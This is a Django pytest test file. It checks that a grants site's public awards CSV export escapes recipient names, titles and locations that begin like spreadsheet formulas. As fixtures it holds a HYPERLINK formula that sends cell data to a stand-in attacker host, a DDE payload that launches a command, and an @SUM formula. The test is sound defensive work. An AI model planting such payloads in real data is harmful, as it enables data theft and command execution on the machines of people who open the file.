"""The public awards CSV cannot carry a spreadsheet formula in from a recipient's name."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.grants.factories import published_award

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.test/?x="&A1,"Click for details")'


def test_awards_csv_writes_formula_like_text_as_text(client):
    published_award(
        application__organisation__name=HYPERLINK,
        application__project_title="+cmd|' /C calc'!A0",
        application__area="@SUM(1+1)",
    )
    plain = published_award(application__organisation__name="Age UK Leicestershire")
    response = client.get(reverse("grants:awards-csv"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = {row["Recipient Org:Name"] for row in rows}
    assert names == {f"'{HYPERLINK}", "Age UK Leicestershire"}
    assert HYPERLINK not in {cell for row in rows for cell in row.values()}
    hostile = next(row for row in rows if row["Recipient Org:Name"] != "Age UK Leicestershire")
    assert hostile["Title"] == "'+cmd|' /C calc'!A0"
    assert hostile["Beneficiary Location:Name"] == "'@SUM(1+1)"
    # Amounts and ordinary text are untouched.
    assert hostile["Amount Awarded"] == "10000.00"
    decent = next(row for row in rows if row["Recipient Org:Name"] == "Age UK Leicestershire")
    assert decent["Decision Reference"] == plain.decision.public_reference
